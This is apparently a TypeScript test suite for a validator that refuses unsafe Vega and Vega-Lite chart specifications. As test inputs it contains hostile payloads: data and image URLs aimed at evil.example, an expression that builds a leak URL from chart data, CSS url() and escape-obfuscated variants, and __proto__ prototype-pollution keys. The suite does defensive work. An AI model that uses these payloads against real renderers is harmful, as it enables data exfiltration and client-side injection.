import { chartHazards, chartHazardsIn, describeChartHazards } from '../src';

/** The paths a spec is refused at, in document order. */
const refusedAt = (spec: unknown) => chartHazards(spec).map((hazard) => hazard.path);

const SAFE_BAR = {
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  title: 'Age by sex',
  data: { values: [{ category: 'F', group: 'a', value: 1 }] },
  mark: { type: 'bar', tooltip: true },
  encoding: {
    x: { field: 'category', type: 'nominal', sort: null },
    y: { field: 'value', type: 'quantitative' },
  },
};

const SAFE_SCATTER = {
  data: { values: [{ x: 1, y: 2 }] },
  layer: [
    { mark: { type: 'point', opacity: 0.5 }, encoding: { x: { field: 'x' }, y: { field: 'y' } } },
    {
      mark: { type: 'line', color: 'firebrick' },
      // `params: true` on a regression is a flag, not a parameter declaration.
      transform: [
        { regression: 'y', on: 'x', params: false },
        { calculate: 'datum.y * 2', as: 'y2' },
      ],
      encoding: { x: { field: 'x' }, y: { field: 'y' } },
    },
  ],
};

describe('chartHazards', () => {
  test('the charts products draw (inline data, marks, encodings, transforms, tooltips) are safe', () => {
    expect(chartHazards(SAFE_BAR)).toEqual([]);
    expect(chartHazards(SAFE_SCATTER)).toEqual([]);
    expect(
      chartHazards({ datasets: { points: [{ a: 1 }] }, data: { name: 'points' }, mark: 'point' }),
    ).toEqual([]);
  });

  test('URL data is refused at the top level, in layers and in every multi-view operator', () => {
    const hostile = { data: { url: '/udats/udat_1/csv', format: { type: 'csv' } }, mark: 'point' };
    expect(refusedAt(hostile)).toEqual(['chart.data.url']);
    expect(refusedAt({ layer: [SAFE_BAR, hostile] })).toEqual(['chart.layer.1.data.url']);
    expect(refusedAt({ layer: [{ layer: [hostile] }] })).toEqual(['chart.layer.0.layer.0.data.url']);
    for (const operator of ['concat', 'hconcat', 'vconcat'])
      expect(refusedAt({ [operator]: [SAFE_BAR, hostile] })).toEqual([`chart.${operator}.1.data.url`]);
    expect(refusedAt({ facet: { row: { field: 'a' } }, spec: hostile, data: { values: [] } })).toEqual([
      'chart.spec.data.url',
    ]);
    expect(refusedAt({ repeat: ['a'], spec: hostile })).toEqual(['chart.spec.data.url']);
    // Vega (not Vega-Lite): data is a list of named sets.
    expect(
      refusedAt({
        data: [
          { name: 'a', values: [] },
          { name: 'b', url: 'https://evil.example/x' },
        ],
      }),
    ).toEqual(['chart.data.1.url']);
  });

  test('lookup transforms and datasets cannot load either', () => {
    expect(
      refusedAt({
        ...SAFE_BAR,
        transform: [{ lookup: 'id', from: { data: { url: '/history/h1/csv' }, key: 'id', fields: ['x'] } }],
      }),
    ).toEqual(['chart.transform.0.from.data.url']);
    expect(refusedAt({ ...SAFE_BAR, datasets: { stolen: { url: '/udats/udat_1/csv' } } })).toEqual([
      'chart.datasets.stolen.url',
    ]);
  });

  test('image marks, url channels and hrefs are refused wherever they are written', () => {
    expect(refusedAt({ ...SAFE_BAR, mark: 'image' })).toEqual(['chart.mark']);
    expect(refusedAt({ ...SAFE_BAR, mark: { type: 'image', width: 10 } })).toEqual(['chart.mark.type']);
    expect(refusedAt({ marks: [{ type: 'image', encode: {} }] })).toEqual(['chart.marks.0.type']);
    expect(refusedAt({ ...SAFE_BAR, encoding: { url: { field: 'name' } } })).toEqual(['chart.encoding.url']);
    expect(refusedAt({ ...SAFE_BAR, encoding: { href: { field: 'name' } } })).toEqual([
      'chart.encoding.href',
    ]);
    expect(refusedAt({ ...SAFE_BAR, mark: { type: 'bar', href: 'https://evil.example' } })).toEqual([
      'chart.mark.href',
    ]);
    expect(refusedAt({ ...SAFE_BAR, title: { text: 'x', href: '//evil.example' } })).toEqual([
      'chart.title.href',
    ]);
  });

  test('signals, parameters and expression references (the way to build a URL from data) are refused', () => {
    expect(
      refusedAt({ ...SAFE_BAR, params: [{ name: 'leak', expr: "'https://evil.example/?' + data('x')" }] }),
    ).toEqual(['chart.params']);
    expect(refusedAt({ signals: [{ name: 's', update: "data('table')" }] })).toEqual(['chart.signals']);
    expect(refusedAt({ ...SAFE_BAR, mark: { type: 'bar', fill: { expr: 'datum.name' } } })).toEqual([
      'chart.mark.fill.expr',
    ]);
    expect(refusedAt({ ...SAFE_BAR, width: { signal: 'w' } })).toEqual(['chart.width.signal']);
  });

  test('usermeta (vega-embed options), config and loaders are refused', () => {
    expect(
      refusedAt({ ...SAFE_BAR, usermeta: { embedOptions: { loader: { baseURL: 'https://evil' } } } }),
    ).toEqual(['chart.usermeta']);
    expect(refusedAt({ ...SAFE_BAR, config: { mark: { tooltip: true } } })).toEqual(['chart.config']);
    expect(refusedAt({ ...SAFE_BAR, loader: {} })).toEqual(['chart.loader']);
  });

  test('CSS url() in any string (fill, background, a raw colour from data) is refused', () => {
    expect(refusedAt({ ...SAFE_BAR, background: 'url(https://evil.example/x)' })).toEqual([
      'chart.background',
    ]);
    expect(refusedAt({ ...SAFE_BAR, data: { values: [{ colour: 'URL (//evil.example)' }] } })).toEqual([
      'chart.data.values.0.colour',
    ]);
  });

  test('CSS escapes and image-set() do not hide a resource load (a cursor or fill is parsed as CSS)', () => {
    const cursor = (value: string) => refusedAt({ ...SAFE_BAR, mark: { type: 'bar', cursor: value } });
    // `\75 rl(` is `url(` to a CSS parser; image-set() takes plain strings as URLs.
    expect(cursor('\\75 rl(https://evil.example/c.cur), auto')).toEqual(['chart.mark.cursor']);
    expect(cursor('u\\rl(https://evil.example/c.cur), auto')).toEqual(['chart.mark.cursor']);
    expect(cursor("-webkit-image-set('https://evil.example/c.png' 1x), auto")).toEqual(['chart.mark.cursor']);
    expect(cursor('image-set("https://evil.example/c.png" 1x), auto')).toEqual(['chart.mark.cursor']);
    expect(cursor('pointer')).toEqual([]);
  });

  test('prototype keys are refused (JSON.parse makes __proto__ an own key)', () => {
    const parsed = JSON.parse('{"mark":"bar","encoding":{"__proto__":{"polluted":true}}}') as unknown;
    expect(refusedAt(parsed)).toEqual(['chart.encoding.__proto__']);
    expect(refusedAt({ ...SAFE_BAR, constructor: { prototype: {} } })).toEqual(['chart.constructor']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('a spec that is not an object, or nests without end, is refused', () => {
    expect(refusedAt('https://evil.example/spec.json')).toEqual(['chart']);
    expect(refusedAt([SAFE_BAR])).toEqual(['chart']);
    let deep: Record<string, unknown> = { mark: 'bar' };
    for (let level = 0; level < 150; level += 1) deep = { layer: [deep] };
    expect(chartHazards(deep)[0]!.problem).toMatch(/deeper than 100 levels/);
  });

  test('reports at most 20 hazards', () => {
    const many = { layer: Array.from({ length: 50 }, () => ({ data: { url: 'x' } })) };
    expect(chartHazards(many)).toHaveLength(20);
  });
});

describe('chartHazardsIn', () => {
  test('finds the chart of every analysis result inside a stored value, with its full path', () => {
    const result = {
      data: {
        a: { resultHash: 'sha256:1', chart: SAFE_BAR },
        b: [{ resultHash: 'sha256:2', chart: { ...SAFE_BAR, data: { url: '/udats/u/csv' } } }],
      },
    };
    const hazards = chartHazardsIn(result, 'input.result');
    expect(hazards.map((hazard) => hazard.path)).toEqual(['input.result.data.b.0.chart.data.url']);
    expect(describeChartHazards(hazards)).toBe(
      'input.result.data.b.0.chart.data.url: loads data or an image from a URL: a chart draws inline data only (data.values); remove it.',
    );
  });

  test('a value without charts, or with a null chart, has no hazards', () => {
    expect(chartHazardsIn({ genes: ['TP53'], chart: null }, 'input.payload')).toEqual([]);
    expect(chartHazardsIn(null, 'input.result')).toEqual([]);
  });
});
